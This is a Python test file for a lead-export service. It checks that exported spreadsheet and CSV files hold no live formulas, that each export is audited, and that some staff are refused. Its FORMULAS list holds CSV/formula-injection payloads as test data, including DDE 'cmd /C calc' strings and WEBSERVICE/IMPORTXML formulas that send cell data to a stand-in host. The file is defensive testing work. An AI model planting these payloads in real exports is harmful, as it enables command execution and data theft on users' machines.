"""The file of the day's leads: text alone, marked, audited first."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime
from pathlib import Path
from xml.etree import ElementTree

import pytest

from lobby.domain.errors import AccessRefused
from lobby.domain.viewer import Viewer
from lobby.services import exports
from lobby.services.lead_export import export_leads, waiting
from lobby.services.outbound import COLUMNS, as_csv
from lobby.services.sources import Sources

SignIn = Callable[[str], Viewer]
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x/"&A1)',
    '=IMPORTXML("http://x","//a")',
    '=DDE("cmd";"/C calc";"x")',
    '="a"&"b"',
    "{=1+1}",
    "=1+1;=2+2",
    '"=1+1"',
)
HEADINGS = ",".join(f'"{name}"' for name in COLUMNS) + "\r\n"
OFFICE = shutil.which("soffice")
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE_SPACE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
CSV_FILTER = "CSV:44,34,76"  # commas, quotes, UTF-8
SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
def bank(sources: Sources, tmp_path: Path) -> Sources:
    """The tiny bank with a LOBBY_HOME of its own."""
    return replace(sources, settings=sources.settings.model_copy(update={"home": tmp_path / "own"}))


def made(sources: Sources, viewer: Viewer, now: datetime, *, is_direct: bool = True) -> str:
    rows = [[one, "x"] for one in FORMULAS]
    headings = ("客户", "为什么")
    return export_leads(sources, viewer, headings, rows, now, is_direct=is_direct).number


def test_f48_of_21_payloads_no_cell_is_a_formula_and_every_word_arrives(
    bank: Sources, signed_in: SignIn, now: datetime
) -> None:
    number = made(bank, signed_in("s3"), now)
    assert waiting(bank, signed_in("s3")) == (exports.in_hand(bank)[number][0], "waiting")
    exports.release(bank, signed_in("s5"), number)
    found = exports.fetch(bank, number, "ipad-1")
    assert found is not None
    assert found.name == "leads-20261120-0930.xlsx"
    with zipfile.ZipFile(io.BytesIO(found.content)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 made here
        words = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314 made here
    assert sheet.findall(f".//{SPACE}f") == []
    assert {cell.get("t") for cell in sheet.iter(f"{SPACE}c")} == {"s"}
    texts = ["".join(one.itertext()) for one in words.iter(f"{SPACE}si")]
    assert texts[0] == "s3 郭静 ipad-1 2026-11-20 09:30"
    assert {one.strip() for one in FORMULAS} <= {one.replace("_x000D_", "").strip() for one in texts}
    footer = sheet.find(f".//{SPACE}oddFooter")
    assert footer is not None
    assert footer.text == "&Ls3 郭静 ipad-1 2026-11-20 09:30"


def test_f48_order_24_export_it_is_in_the_audit_with_its_rows_and_its_sum(
    bank: Sources, signed_in: SignIn, now: datetime
) -> None:
    made(bank, signed_in("s3"), now)
    (row,) = bank.desk.audited(9, action="export")
    assert (row["details"]["what"], row["details"]["rows"]) == ("leads", len(FORMULAS))
    assert len(row["details"]["sha256"]) == 64


def test_nothing_leaves_for_others_or_from_elsewhere(bank: Sources, signed_in: SignIn, now: datetime) -> None:
    for staff_id, is_direct, code in (("s3", False, "export_not_here"), ("s2", True, "not_for_role")):
        with pytest.raises(AccessRefused) as refused:
            made(bank, signed_in(staff_id), now, is_direct=is_direct)
        assert refused.value.code == code
    assert exports.in_hand(bank) == {}
    assert bank.desk.audited(9, action="export") == ()


@pytest.mark.parametrize("text", FORMULAS)
def test_f48_a_cell_of_a_list_is_no_formula_and_keeps_its_words(text: str) -> None:
    (cell,) = next(csv.reader(io.StringIO(as_csv([(text,)])[len(HEADINGS) :])))
    assert cell.removeprefix("'") == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


@pytest.mark.proof
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_f48_libreoffice_finds_no_formula_in_a_file_of_21_payloads(
    bank: Sources, signed_in: SignIn, now: datetime, tmp_path: Path, kind: str
) -> None:
    """Opened and written again as flat XML: every cell is text, none has a formula."""
    if OFFICE is None:
        pytest.skip("there is no LibreOffice: apt-get install libreoffice-calc-nogui")
    file = tmp_path / f"export.{kind}"
    if kind == "xlsx":
        number = made(bank, signed_in("s3"), now)
        exports.release(bank, signed_in("s5"), number)
        found = exports.fetch(bank, number, "ipad-1")
        assert found is not None
        file.write_bytes(found.content)
    else:
        file.write_text(as_csv([(text,) for text in FORMULAS]), encoding="utf-8-sig")
    own = f"-env:UserInstallation=file://{tmp_path}/office"
    read_as = [f"--infilter={CSV_FILTER}"] if kind == "csv" else []
    written = ["--convert-to", "fods", "--outdir", str(tmp_path), str(file)]
    asked = [OFFICE, own, "--headless", *read_as, *written]
    subprocess.run(asked, check=True, timeout=300, capture_output=True)
    book = ElementTree.parse(file.with_suffix(".fods"))  # noqa: S314 made here
    cells = [one for one in book.iter(f"{TABLE}table-cell") if "".join(one.itertext()).strip()]
    assert [one for one in cells if one.get(f"{TABLE}formula") is not None] == []
    assert {one.get(f"{OFFICE_SPACE}value-type") for one in cells} == {"string"}
    words = {"".join(one.itertext()).strip().removeprefix("'") for one in cells}
    assert {text.strip() for text in FORMULAS} <= words | {""}
